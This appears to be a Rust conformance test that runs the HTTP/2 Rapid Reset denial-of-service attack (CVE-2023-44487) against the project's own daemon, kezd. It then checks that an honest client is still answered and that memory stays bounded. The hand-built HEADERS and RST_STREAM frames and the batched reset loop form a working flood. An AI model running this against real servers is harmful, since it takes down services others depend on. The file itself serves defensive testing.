//! HTTP/2 rapid reset (CVE-2023-44487): one connection (h2c, prior knowledge) opens streams
//! and cancels each at once with `RST_STREAM`, thousands per second, so the server starts work for requests that cost
//! the attacker nothing and never count against its stream limit. kezd (hyper and h2 under it)
//! must bound that work — typically by `GOAWAY` with `ENHANCE_YOUR_CALM` — while an honest
//! client on another address is answered promptly and memory stays within a loose bound.

use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::tcp::OwnedReadHalf;
use tokio::time::Instant;

use crate::daemon::Daemon;
use crate::observe::{memory_kib, scrape};
use crate::scenario::{Env, Outcome, RunFuture, Scenario};
use crate::wire::{self, ATTACKER, HONEST, Reply};
use kez_conformance::{Fail, fail};

/// The scenario.
pub const SCENARIO: Scenario = Scenario {
    name: "h2_rapid_reset",
    proves: "streams opened and reset at once over HTTP/2 do not starve an honest client or \
             grow memory; kezd may end the connection",
    timeout: Duration::from_secs(60),
    run,
};

/// Streams opened and reset, at most, and for at most this long.
const RESETS: usize = 20_000;
/// HEADERS + RST_STREAM pairs per write.
const BATCH: usize = 100;
const ATTACK_FOR: Duration = Duration::from_secs(8);

/// Honest requests during the attack, and the bound on each.
const HONEST_REQUESTS: usize = 20;
const HONEST_WITHIN: Duration = Duration::from_secs(3);

/// Loose bound on RSS growth (VmHWM over VmRSS before the attack).
const RSS_GROWTH_MAX_KIB: u64 = 64 * 1024;

fn run(env: Env) -> RunFuture {
    Box::pin(attack(env))
}

async fn attack(env: Env) -> Outcome {
    let daemon = Daemon::start(&env.kezd, &[]).await?;
    let (rss_before, _) = memory_kib(daemon.pid())?;
    let stream = wire::connect_from(ATTACKER, daemon.addr(), None)
        .await
        .map_err(|e| Fail::Fail(format!("connecting: {e}")))?;
    let (reader, mut writer) = stream.into_split();
    let server_side = tokio::spawn(read_goaway(reader));
    let authority = daemon.host();
    let attacker = tokio::spawn(async move {
        let started = Instant::now();
        let mut reset = 0usize;
        let mut batch = frames::preface();
        while reset < RESETS && started.elapsed() < ATTACK_FOR {
            for _ in 0..BATCH {
                // Client stream ids are odd, increasing.
                let id = u32::try_from(2 * reset + 1).unwrap_or(u32::MAX);
                batch.extend_from_slice(&frames::headers(id, "/v1/healthz", &authority));
                batch.extend_from_slice(&frames::rst_stream(id));
                reset += 1;
            }
            if writer.write_all(&batch).await.is_err() {
                break;
            }
            batch.clear();
        }
        (reset, started.elapsed())
    });

    let request = format!(
        "GET /v1/healthz HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n",
        daemon.host()
    );
    let mut slowest = Duration::ZERO;
    for _ in 0..HONEST_REQUESTS {
        let started = Instant::now();
        let reply =
            wire::exchange(HONEST, daemon.addr(), request.as_bytes(), HONEST_WITHIN).await?;
        slowest = slowest.max(started.elapsed());
        if !matches!(&reply, Reply::Answer(a) if a.status == 200) {
            fail!(
                "an honest GET /v1/healthz during the rapid reset: {}",
                reply.describe()
            );
        }
    }
    let (reset, took) = attacker
        .await
        .map_err(|e| Fail::Fail(format!("attacker task: {e}")))?;
    let ended = if server_side.is_finished() {
        match server_side.await {
            Ok(Some(code)) => {
                // A protocol or compression error would mean the attack's own frames were
                // wrong, and the scenario proved nothing.
                if code == 0x1 || code == 0x9 {
                    fail!("kezd answered GOAWAY {code:#x}: the attack's frames are malformed");
                }
                format!("kezd sent GOAWAY {code:#x} and closed the connection")
            }
            _ => "kezd closed the connection".to_owned(),
        }
    } else {
        server_side.abort();
        "the connection stayed open".to_owned()
    };
    let (rss_after, hwm) = memory_kib(daemon.pid())?;
    // How many of the reset streams reached kezd's service (the honest requests included).
    let served: f64 = scrape(daemon.observer())
        .await?
        .lines()
        .filter(|line| line.starts_with("kezd_http_requests_total{route=\"/v1/healthz\""))
        .filter_map(|line| line.rsplit(' ').next()?.parse::<f64>().ok())
        .sum();
    let figures = vec![
        format!(
            "{reset} streams opened and reset in {took:?}; {ended}; kezd's service saw {served} \
             requests to /v1/healthz"
        ),
        format!("honest from {HONEST}: {HONEST_REQUESTS} answered, slowest {slowest:?}"),
        format!("RSS {rss_before} → {rss_after} KiB, peak {hwm} KiB"),
    ];
    let growth = hwm.saturating_sub(rss_before);
    if growth > RSS_GROWTH_MAX_KIB {
        fail!(
            "{}; RSS grew by {growth} KiB, bound {RSS_GROWTH_MAX_KIB} KiB",
            figures.join("; ")
        );
    }
    daemon.check_alive().await?;
    Ok(figures)
}

/// Reads kezd's frames and drops them, except GOAWAY, whose error code is kept; the read ends
/// when kezd closes the connection.
async fn read_goaway(mut reader: OwnedReadHalf) -> Option<u32> {
    let mut buffer = Vec::new();
    let mut chunk = vec![0u8; 16 * 1024];
    let mut goaway = None;
    while let Ok(n) = reader.read(&mut chunk).await {
        if n == 0 {
            break;
        }
        buffer.extend_from_slice(&chunk[..n]);
        while let Some((kind, payload, used)) = frames::parse(&buffer) {
            if kind == 0x7 && payload.len() >= 8 {
                goaway = Some(u32::from_be_bytes([
                    payload[4], payload[5], payload[6], payload[7],
                ]));
            }
            buffer.drain(..used);
        }
    }
    goaway
}

/// The few HTTP/2 frames the attack writes (RFC 9113), by hand: a client library would not
/// send a stream's reset in the same write as its headers.
mod frames {
    /// The connection preface and an empty SETTINGS frame.
    pub fn preface() -> Vec<u8> {
        let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        bytes.extend_from_slice(&frame(0x4, 0, 0, &[]));
        bytes
    }

    /// HEADERS (END_STREAM | END_HEADERS) for `GET http://<authority><path>`: HPACK indexed
    /// `:method GET` and `:scheme http`, then `:path` and `:authority` as literals without
    /// indexing, so the server's HPACK table never grows.
    pub fn headers(stream: u32, path: &str, authority: &str) -> Vec<u8> {
        let mut block = vec![0x82, 0x86];
        for (index, value) in [(0x04u8, path), (0x01, authority)] {
            block.push(index);
            // Both values are short (< 127 bytes): one length byte, no Huffman coding.
            block.push(u8::try_from(value.len()).unwrap_or(0x7f).min(0x7e));
            block.extend_from_slice(value.as_bytes());
        }
        frame(0x1, 0x1 | 0x4, stream, &block)
    }

    /// RST_STREAM with CANCEL.
    pub fn rst_stream(stream: u32) -> Vec<u8> {
        frame(0x3, 0, stream, &0x8u32.to_be_bytes())
    }

    /// The first whole frame in `bytes`: its type, its payload, and the bytes it takes.
    pub fn parse(bytes: &[u8]) -> Option<(u8, &[u8], usize)> {
        let header = bytes.get(..9)?;
        let length = u32::from_be_bytes([0, header[0], header[1], header[2]]);
        let end = 9 + usize::try_from(length).ok()?;
        Some((header[3], bytes.get(9..end)?, end))
    }

    fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
        let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
        let mut bytes = Vec::with_capacity(9 + payload.len());
        bytes.extend_from_slice(&length[1..]);
        bytes.push(kind);
        bytes.push(flags);
        bytes.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
        bytes.extend_from_slice(payload);
        bytes
    }
}
